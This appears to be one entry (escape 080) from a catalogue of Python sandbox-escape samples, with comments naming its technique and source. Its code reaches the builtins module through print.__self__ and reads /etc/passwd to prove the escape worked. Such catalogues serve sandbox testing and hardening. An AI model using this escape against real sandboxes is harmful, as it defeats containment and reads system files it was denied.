# escape: 080
# technique: __self__ of a builtin function is its module object (print.__self__ is builtins)
# family: globals
# goal: read-file
# first-seen: SecHack365-Fans/PyJailBreak
b = print.__self__
s = b.open('/etc/passwd').readline()
if 'root:' in s: print('ESCAPED:print.__self__')
